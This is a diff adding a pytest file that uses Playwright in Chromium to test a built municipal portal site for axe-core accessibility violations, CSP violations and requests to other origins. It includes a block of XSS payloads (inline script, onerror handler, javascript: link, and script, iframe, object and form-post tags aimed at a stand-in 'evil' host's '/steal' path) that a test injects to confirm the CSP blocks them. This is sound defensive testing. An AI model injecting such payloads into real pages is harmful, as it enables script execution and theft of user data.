@@ -1,0 +1,206 @@
+"""The built sample network in a real browser (Debian's chromium, Playwright): axe-core and the CSP.
+
+- axe-core (npm, pinned) finds no violation of any impact on the home, list, article, document,
+  search and 404 pages of every language of the provincial portal and of a commune;
+- in normal use no page logs a Content-Security-Policy violation and no request leaves the
+  page's origin (the search pages run Pagefind's WebAssembly under the policy);
+- a script written into a built page (as if the sanitiser had been bypassed) does not run:
+  inline, as an event handler, as a ``javascript:`` link, or from another origin.
+"""
+
+from __future__ import annotations
+
+import http.server
+import os
+import re
+import shutil
+import threading
+from pathlib import Path
+from typing import ClassVar
+from urllib.parse import urlsplit
+
+import pytest
+
+from ..validators import AXE_JS
+from .test_search_browser import browser  # noqa: F401  (the chromium fixture)
+
+SITES = {"bac-ninh": ["", "en/", "ja/", "zh/", "ko/"], "tien-du": [""]}
+QUERIES = {"": "ke hoach", "en/": "investment", "ja/": "計画", "zh/": "投资", "ko/": "투자"}
+#: listens for CSP violations before any of the page's own code runs (Playwright init scripts are not subject to the page's CSP)
+RECORD_VIOLATIONS = """
+window.__csp = [];
+document.addEventListener('securitypolicyviolation',
+  e => window.__csp.push(e.violatedDirective + ' ' + (e.blockedURI || 'inline') + ' ' + (e.sourceFile || '')));
+"""
+
+
+def _first(folder: Path) -> str | None:
+    subs = sorted(p.name for p in folder.iterdir() if (p / "index.html").is_file()) if folder.is_dir() else []
+    return subs[0] if subs else None
+
+
+def pages_to_check(out: Path) -> list[tuple[str, str, str]]:
+    """(site, kind, path) of the pages axe and the CSP test load."""
+    result = []
+    for site, langs in SITES.items():
+        for p in langs:
+            base = out / site / p
+            result += [(site, "home", f"/{p}"), (site, "list", f"/{p}tin-tuc/"),
+                       (site, "search", f"/{p}tim-kiem/?q={QUERIES[p]}"), (site, "404", f"/{p}404.html")]
+            for kind, section in (("article", "tin-tuc"), ("document", "van-ban")):
+                slug = _first(base / section)
+                if slug:
+                    result.append((site, kind, f"/{p}{section}/{slug}/"))
+    return result
+
+
+def _serve(output: Path, site_ids=None):
+    from portal.stages.preview import make_server
+
+    os.environ["PORTAL_SERVE_QUIET"] = "1"
+    server = make_server(output, "127.0.0.1", 0, site_ids)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server
+
+
+@pytest.fixture(scope="module")
+def served_sample(built_sample):
+    out, _ = built_sample
+    server = _serve(out)
+    yield out, server.server_address[1]
+    server.shutdown()
+    server.server_close()
+
+
+def _open(page, port: int, site: str, path: str) -> None:
+    page.goto(f"http://{site}.localhost:{port}{path}")
+    page.wait_for_load_state("load")
+    if "/tim-kiem/" in path:  # results shown (or "no results"): search.js and Pagefind have run
+        page.wait_for_function("() => { const r = document.querySelector('[data-search]'); return r && r.dataset.state === 'done'; }",
+                               timeout=20000)
+
+
+def test_axe_finds_no_violation(browser, served_sample):  # noqa: F811
+    out, port = served_sample
+    axe = AXE_JS.read_text(encoding="utf-8") if AXE_JS.is_file() else None
+    if axe is None:
+        if os.environ.get("CI"):
+            pytest.fail("axe-core is not installed: make test installs it (make validators)")
+        pytest.skip("axe-core is not installed (make validators)")
+    context = browser.new_context(bypass_csp=True)  # axe is injected: the CSP is tested on its own below
+    page = context.new_page()
+    found: dict[str, list[str]] = {}
+    checked = pages_to_check(out)
+    for site, kind, path in checked:
+        _open(page, port, site, path)
+        page.evaluate(axe)
+        result = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
+        for v in result["violations"]:
+            targets = [" ".join(n["target"]) for n in v["nodes"]][:3]
+            found.setdefault(v["id"], []).append(f"{site}{path} ({kind}, {v['impact']}): {targets}")
+    context.close()
+    assert len(checked) >= 30
+    assert not found, "\n".join(f"{k}: {len(v)} pages, e.g. {v[:3]}" for k, v in found.items())
+
+
+def test_no_csp_violation_and_no_other_origin_in_normal_use(browser, served_sample):  # noqa: F811
+    out, port = served_sample
+    context = browser.new_context()
+    context.add_init_script(RECORD_VIOLATIONS)
+    page = context.new_page()
+    console: list[str] = []
+    requests: list[str] = []
+    page.on("console", lambda m: console.append(m.text) if "Content Security Policy" in m.text else None)
+    page.on("request", lambda r: requests.append(r.url))
+    violations: dict[str, list[str]] = {}
+    for site, _kind, path in pages_to_check(out):
+        _open(page, port, site, path)
+        got = page.evaluate("window.__csp")
+        if got:
+            violations[f"{site}{path}"] = got
+    page.goto(f"http://localhost:{port}/")  # the directory page: its inline style is allowed by its hash
+    assert page.evaluate("window.__csp") == [] and page.evaluate("getComputedStyle(document.body).maxWidth") == "960px"
+    context.close()
+    assert not violations and not console, (violations, console[:5])
+    origins = {f"{u.scheme}://{u.netloc}" for u in map(urlsplit, requests) if u.scheme in ("http", "https")}
+    assert all(o.endswith(f"localhost:{port}") for o in origins), f"requests to other origins: {origins}"
+    assert any(("/pagefind/" in r and r.endswith(".wasm")) or "wasm" in r for r in requests), "Pagefind's WebAssembly ran"
+
+
+INJECTED = """
+<script>window.__ran = (window.__ran || []).concat('inline');</script>
+<img src="/khong-co.png" alt="" onerror="window.__ran = (window.__ran || []).concat('onerror')">
+<a id="js-link" href="javascript:window.__ran = (window.__ran || []).concat('javascript-url')">bấm</a>
+<script src="{EVIL}/x.js"></script>
+<img src="{EVIL}/pixel.png" alt="">
+<iframe src="{EVIL}/frame"></iframe>
+<object data="{EVIL}/x.swf"></object>
+<form action="{EVIL}/steal" method="post"><button id="steal">Gửi</button></form>
+<base href="{EVIL}/">
+<script>alert('xss')</script>
+"""
+
+
+class _Evil(http.server.BaseHTTPRequestHandler):
+    """Another origin: records every request that reaches it."""
+
+    hits: ClassVar[list[str]] = []
+
+    def do_GET(self):
+        _Evil.hits.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "application/javascript")
+        self.end_headers()
+        self.wfile.write(b"window.__ran = (window.__ran || []).concat('remote');")
+
+    do_POST = do_GET
+
+    def log_message(self, *args):
+        pass
+
+
+def test_a_script_written_into_a_built_page_does_not_run(browser, built_sample, tmp_path: Path):  # noqa: F811
+    out, _ = built_sample
+    evil = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Evil)
+    threading.Thread(target=evil.serve_forever, daemon=True).start()
+    _Evil.hits.clear()
+    injected = INJECTED.replace("{EVIL}", f"http://evil.localhost:{evil.server_address[1]}")
+    shutil.copytree(out / "tien-du", tmp_path / "tien-du")
+    article = next(p for p in sorted((tmp_path / "tien-du/tin-tuc").glob("*/index.html")))
+    html = article.read_text(encoding="utf-8")
+    article.write_text(html.replace('<div class="post-body">', '<div class="post-body">' + injected, 1), encoding="utf-8")
+    # the control: the same page without its policy, where the injection does run (the test can see it)
+    control = tmp_path / "tien-du" / "doi-chung" / "index.html"
+    control.parent.mkdir()
+    control.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", article.read_text(encoding="utf-8")),
+                       encoding="utf-8")
+    server = _serve(tmp_path, {"tien-du"})
+    port = server.server_address[1]
+    context = browser.new_context()
+    context.add_init_script(RECORD_VIOLATIONS)
+    page = context.new_page()
+    dialogs: list[str] = []
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    try:
+        page.goto(f"http://tien-du.localhost:{port}/{article.parent.relative_to(tmp_path / 'tien-du').as_posix()}/")
+        page.wait_for_load_state("load")
+        page.click("#js-link")
+        page.click("#steal", no_wait_after=True)
+        page.wait_for_timeout(300)
+        assert page.evaluate("window.__ran || []") == [], "an injected script ran"
+        assert dialogs == []
+        assert _Evil.hits == [], f"requests reached another origin: {_Evil.hits}"
+        blocked = " ".join(page.evaluate("window.__csp"))
+        for directive in ("script-src", "img-src", "frame-src", "object-src", "form-action", "base-uri"):
+            assert directive in blocked, (directive, blocked)
+        assert urlsplit(page.url).hostname == "tien-du.localhost"
+
+        page.goto(f"http://tien-du.localhost:{port}/doi-chung/")
+        page.wait_for_load_state("load")
+        page.wait_for_timeout(300)
+        assert "inline" in page.evaluate("window.__ran || []") and _Evil.hits and dialogs, "without the policy it runs"
+    finally:
+        context.close()
+        for srv in (server, evil):
+            srv.shutdown()
+            srv.server_close()
